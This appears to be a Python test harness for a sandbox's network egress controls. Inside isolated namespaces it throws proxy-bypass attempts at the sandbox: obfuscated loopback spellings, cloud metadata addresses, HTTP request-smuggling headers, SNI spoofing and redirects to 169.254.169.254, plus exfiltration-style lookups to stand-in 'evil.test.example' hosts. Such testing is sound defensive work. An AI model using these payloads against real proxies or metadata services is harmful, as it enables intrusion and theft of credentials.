"""A whole Atoll in a network of its own, where public addresses are peers of ours.

Run by `test_egress.py` in fresh network and mount namespaces, so that nothing real is asked:
a resolver that counts, one public address that listens, one service on the machine's loopback.
Prints one JSON object: what came of each attempt.
"""

import base64
import contextlib
import ctypes
import json
import os
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import urllib.request
from collections.abc import Iterator
from pathlib import Path

from atoll.testing.server import TestServer, test_server
from tests.peers.docker_daemon import IMAGE, docker_daemon

PUBLIC = "93.184.215.14"
OWN = "93.184.216.34"
"""A public address of the machine itself, given to it when the sandbox already runs."""

CLONE_NEWNET = 0x40000000
NAMES = {
    "own.test.example": OWN,
    "allowed.test.example": PUBLIC,
    "inner.test.example": "127.0.0.1",
    "metadata.test.example": "169.254.169.254",
    "api.openai.com": PUBLIC,
    "elsewhere.test.example": PUBLIC,
}
PROFILE = """
id: profile.attacked
version: "1.0.0"
{backend}
network:
  egress: [allowed.test.example, "http://allowed.test.example/ok", inner.test.example,
           metadata.test.example, api.openai.com, own.test.example]
  ports: [5432]
"""
SUDO = "safety: {sudo: [[apt-get, install, -y, jq]]}"
"""Of namespaces alone: nothing may gain privilege in a container."""


class Peers:
    """What was asked of the resolver, and what reached each listener."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.reached: dict[str, list[bytes]] = {
            "public": [],
            "plain": [],
            "loopback": [],
            "own": [],
        }

    def resolve(self) -> None:
        server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        server.bind(("127.0.0.1", 53))

        def serve() -> None:
            while True:
                query, where = server.recvfrom(2048)
                server.sendto(self._answer(query), where)

        threading.Thread(target=serve, daemon=True).start()

    def _answer(self, query: bytes) -> bytes:
        labels, at = [], 12
        while query[at]:
            labels.append(query[at + 1 : at + 1 + query[at]].decode())
            at += 1 + query[at]
        name, kind = ".".join(labels), query[at + 1 : at + 3]
        self.asked.append(name)
        question = query[12 : at + 5]
        address = NAMES.get(name)
        found = address is not None and kind == b"\0\x01"
        head = query[:2] + b"\x81\x80\0\1" + struct.pack(">H", found) + b"\0\0\0\0"
        record = b"\xc0\x0c\0\1\0\1\0\0\0\x05\0\4" + socket.inet_aton(address or "0.0.0.0")
        return head + question + (record if found else b"")

    def listen_elsewhere(self, address: str, ports: dict[str, int]) -> None:
        """Listen there in a network of its own, reached through a cable."""

        def move() -> None:
            _go_elsewhere(address)
            for name, port in ports.items():
                self.listen(name, address, port)

        mover = threading.Thread(target=move)
        mover.start()
        mover.join()

    def listen(self, name: str, address: str, port: int) -> None:
        server = socket.create_server((address, port))

        def serve() -> None:
            while True:
                peer, _ = server.accept()
                threading.Thread(target=self._talk, args=(name, peer), daemon=True).start()

        threading.Thread(target=serve, daemon=True).start()

    def _talk(self, name: str, peer: socket.socket) -> None:
        with peer, contextlib.suppress(OSError):
            got = peer.recv(65536)
            self.reached[name].append(got)
            moved = b"HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/\r\n"
            peer.sendall(moved + b"Content-Length: 0\r\nConnection: close\r\n\r\n")


_CABLE = """
ip link set lo up
ip link add far type veth peer name near netns {pid}
ip addr add {address}/32 dev far && ip addr add 10.77.0.2/24 dev far && ip link set far up
nsenter --target {pid} --net sh -c 'ip addr add 10.77.0.1/24 dev near && ip link set near up
ip route add {address}/32 via 10.77.0.2'
"""


def _go_elsewhere(address: str) -> None:
    """Move this thread to a network of its own, where it has this address."""
    if ctypes.CDLL(None, use_errno=True).unshare(CLONE_NEWNET):
        raise OSError(ctypes.get_errno(), "unshare")
    script = _CABLE.format(pid=os.getpid(), address=address)
    subprocess.run(["sh", "-ec", script], check=True)


# Runs inside. Each attempt is (name, what to send to the proxy, what to send after a 200).
INSIDE = r"""
import base64, json, socket, sys
told = {}
def say(first, then=b"", address="127.0.0.1"):
    with socket.create_connection((address, 3128), 8) as door:
        door.settimeout(8)
        try:
            door.sendall(first)
            answer = door.recv(65536)
            if then and b" 200 " in answer[:20]:
                door.sendall(then)
                answer += b"|" + door.recv(65536)
            while more := door.recv(65536):
                answer += more
        except OSError as error:
            answer = (answer if "answer" in dir() else b"") + type(error).__name__.encode()
    return answer[:1500].decode("latin-1")
for name, first, then in json.loads(base64.b64decode(sys.argv[1])):
    told[name] = say(base64.b64decode(first), base64.b64decode(then))
told["v6"] = say(b"GET http://evil.test.example/ HTTP/1.1\r\nHost: evil.test.example\r\n\r\n",
                 address="::1")
def direct(family, kind, where):
    try:
        with socket.socket(family, kind) as out:
            out.settimeout(3)
            out.connect(where)
            out.send(b"x")
            return "sent"
    except OSError as error:
        return error.__class__.__name__ + " " + str(error.errno)
told["direct tcp"] = direct(socket.AF_INET, socket.SOCK_STREAM, ("93.184.215.14", 443))
told["direct udp"] = direct(socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53))
told["direct v6"] = direct(socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700::1111", 443))
for port in (3128, 8082):
    for family, where in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"),
                          (socket.AF_INET, "0.0.0.0")):
        with socket.socket(family) as taken:
            taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            try:
                taken.bind((where, port))
                told[f"squat {where}:{port}"] = "taken"
            except OSError as error:
                told[f"squat {where}:{port}"] = str(error.errno)
try:
    told["lookup"] = str(socket.gethostbyname("secret.evil.test.example"))
except OSError as error:
    told["lookup"] = type(error).__name__
print(json.dumps(told))
"""

Attempt = tuple[str, bytes, bytes]


def connect(authority: str) -> bytes:
    return f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode()


def plain(authority: str, path: str = "/", more: str = "") -> bytes:
    head = f"GET http://{authority}{path} HTTP/1.1\r\nHost: {authority}\r\n{more}\r\n"
    return head.encode()


def hello(name: str | None, *, ech: bool = False) -> bytes:
    """A minimal TLS 1.3 hello."""
    extensions = b""
    if name is not None:
        raw = name.encode()
        entry = b"\0" + len(raw).to_bytes(2, "big") + raw
        sni = len(entry).to_bytes(2, "big") + entry
        extensions += b"\0\0" + len(sni).to_bytes(2, "big") + sni
    if ech:
        extensions += b"\xfe\x0d\0\4abcd"
    body = b"\x03\x03" + bytes(32) + b"\0\0\2\x13\1\1\0" + len(extensions).to_bytes(2, "big")
    message = b"\1" + len(body + extensions).to_bytes(3, "big") + body + extensions
    return b"\x16\x03\1" + len(message).to_bytes(2, "big") + message


def attempts(loopback_port: int) -> list[Attempt]:
    spellings = (
        "127.0.0.1", "localhost", "0.0.0.0", "127.1", "0177.1", "0x7f.1", "2130706433", "[::]",
        "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "127.0.0.1.",
        "①②⑦.0.0.1", "169.254.169.254", "metadata.google.internal", "host.atoll.internal",
        "inner.test.example", "metadata.test.example", "user@127.0.0.1",
    )  # fmt: skip
    port = loopback_port
    tricks = {
        "cl te": "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
        "two cl": "Content-Length: 5\r\nContent-Length: 6\r\n",
        "te space": "Transfer-Encoding : chunked\r\n",
        "bare lf": "X: y\nTransfer-Encoding: chunked\r\n",
        "obs fold": "X: y\r\n folded\r\n",
        "two hosts": "Host: evil.test.example\r\n",
        "te trick": "TE: chunked, identity\r\n",
        "h2c": "Connection: Upgrade\r\nUpgrade: h2c\r\n",
    }
    host = "allowed.test.example"
    return [
        *((f"spelt {one} connect", connect(f"{one}:{port}"), b"GET / HTTP/1.0\r\n\r\n")
          for one in spellings),
        *((f"spelt {one} plain", plain(f"{one}:{port}"), b"") for one in spellings),
        *((f"port {one}", connect(f"{host}{one}"), b"SSH-2.0-x\r\n")
          for one in (":22", ":25", ":0", ":443x", "", ":65536")),
        *((f"smuggled {name}", plain(host, "/ok", more), b"") for name, more in tricks.items()),
        ("refused name", plain("c2VjcmV0.evil.test.example"), b""),
        ("refused connect", connect("c2VjcmV0.evil.test.example:443"), b""),
        ("inner address", connect("inner.test.example:443"), hello("inner.test.example")),
        ("metadata address", connect("metadata.test.example:443"), b""),
        ("provider", connect("api.openai.com:443"), hello("api.openai.com")),
        ("sni evil", connect(f"{host}:443"), hello("elsewhere.test.example")),
        ("sni none", connect(f"{host}:443"), hello(None)),
        ("sni ech", connect(f"{host}:443"), hello(host, ech=True)),
        ("sni ssh", connect(f"{host}:443"), b"SSH-2.0-OpenSSH\r\n"),
        ("path outside", plain(host, "/ok/../admin"), b""),
        ("own literal", connect(f"{OWN}:443"), b"GET / HTTP/1.0\r\n\r\n"),
        ("own name", connect("own.test.example:443"), hello("own.test.example")),
        ("unlisted port", connect(f"{PUBLIC}:25"), b"EHLO x\r\n"),
        ("right tls", connect(f"{host}:443"), hello(host)),
        ("right plain", plain(host, "/ok/x"), b""),
    ]  # fmt: skip


def run_inside(server: TestServer, program: str, *args: str) -> dict[str, str]:
    done = server.run("exec", "box", "--", "python3", "-c", program, *args, timeout=120)
    if done.returncode:
        raise RuntimeError(done.stderr[-2000:])
    found: dict[str, str] = json.loads(done.stdout)
    return found


JAVA = """
import java.net.*;
import java.net.http.*;
public class Get {
  public static void main(String[] a) throws Exception {
    var old = (HttpURLConnection) URI.create(a[0]).toURL().openConnection();
    old.setInstanceFollowRedirects(false);
    var request = HttpRequest.newBuilder(URI.create(a[0])).build();
    var answer = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
    System.out.println(old.getResponseCode() + " " + answer.statusCode());
  }
}
"""


def run_java(server: TestServer, url: str) -> list[tuple[str, str]]:
    """What every JDK of the sandbox's root prints and complains of, asking for this address: one
    by its own settings, the next by the variable that leads any JDK to the door."""
    jdks = server.run("exec", "box", "--", "sh", "-c", "ls -d /usr/lib/jvm/*/bin/java").stdout
    script = 'cat > /tmp/Get.java && exec env "$3" "$1" /tmp/Get.java "$2"'
    found = []
    for number, java in enumerate(sorted({Path(java).resolve() for java in jdks.split()})):
        without = "SAME=1" if number % 2 else "--unset=JAVA_TOOL_OPTIONS"
        words = ("exec", "box", "--", "sh", "-c", script, "sh", str(java), url, without)
        done = server.run(*words, input=JAVA, timeout=120)
        found.append((done.stdout, done.stderr))
    return found


def attack(server: TestServer, peers: Peers, port: int) -> dict[str, object]:
    encoded = [
        (name, base64.b64encode(first).decode(), base64.b64encode(then).decode())
        for name, first, then in attempts(port)
    ]
    packed = base64.b64encode(json.dumps(encoded).encode()).decode()
    subprocess.run(["ip", "addr", "add", f"{OWN}/32", "dev", "lo"], check=True)
    peers.listen("own", OWN, 443)
    with socket.create_connection((OWN, 443), 20) as straight:
        straight.sendall(b"GET / HTTP/1.0\r\n\r\n")
        told: dict[str, object] = {"control": straight.recv(100).decode("latin-1")}
    for mode in ("limited", "full", "none"):
        server.run("net", "mode", "box", mode)
        peers.asked.clear()
        for one in peers.reached.values():
            one.clear()
        told[mode] = {
            "answers": run_inside(server, INSIDE, packed),
            "asked": list(peers.asked),
            "reached": {k: [b.decode("latin-1") for b in v] for k, v in peers.reached.items()},
        }
    server.run("net", "mode", "box", "host-only", "--port", str(port))
    told["host-only"] = {
        "named": run_inside(server, INSIDE, packed)["spelt host.atoll.internal connect"],
        "reached": len(peers.reached["loopback"]),
        "java": run_java(server, f"http://host.atoll.internal:{port}/"),
    }
    server.run("stop", "box")  # takes in its journal
    told["events"] = events(server)
    return told


def events(server: TestServer) -> list[dict[str, object]]:
    """What the log says of the doors and the network."""
    found: list[dict[str, object]] = []
    after = 0
    while page := json.loads(page_of(server, after)):
        found += [one for one in page if one["event_type"].startswith(("door.", "network."))]
        after = page[-1]["position"]
    return found


def page_of(server: TestServer, after: int) -> str:
    request = urllib.request.Request(
        f"{server.url}/v1/events?after={after}&limit=500",
        headers={"Authorization": f"Bearer {server.token}"},
    )
    with urllib.request.urlopen(request, timeout=20) as answer:
        return json.dumps(json.load(answer)["events"])


@contextlib.contextmanager
def network(peers: Peers) -> Iterator[int]:
    """The namespaces we are in, furnished; the port of the machine's own service."""
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    with tempfile.NamedTemporaryFile("w") as file:
        file.write("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
        file.flush()
        subprocess.run(["mount", "--bind", file.name, "/etc/resolv.conf"], check=True)
        Path(file.name).chmod(0o644)
        peers.resolve()
        peers.listen_elsewhere(PUBLIC, {"public": 443, "plain": 80})
        peers.listen("loopback", "127.0.0.1", 5432)
        yield 5432


@contextlib.contextmanager
def atoll(wall: str) -> Iterator[tuple[TestServer, str]]:
    """A server with this wall, and what a profile says to get it."""
    if wall == "namespaces":
        with test_server() as server:
            yield server, f"extension: ext.namespaces\n{SUDO}"
        return
    with docker_daemon() as daemon:
        env = {"ATOLL_EXTENSIONS": "namespaces,docker", "ATOLL_DOCKER_HOST": daemon.host}
        with test_server(env) as server:
            yield server, f"extension: ext.docker\nimage: {IMAGE}"


def main() -> None:
    peers = Peers()
    with network(peers) as port, atoll(sys.argv[1]) as (server, backend):
        (server.home / "p.yaml").write_text(PROFILE.format(backend=backend))
        for words in (
            ("profile", "save", str(server.home / "p.yaml")),
            ("new", "--name", "box", "--profile", "attacked", "--detach"),
        ):
            done = server.run(*words)
            if done.returncode:
                raise RuntimeError(done.stderr)
        print(json.dumps(attack(server, peers, port)))


if __name__ == "__main__":
    main()
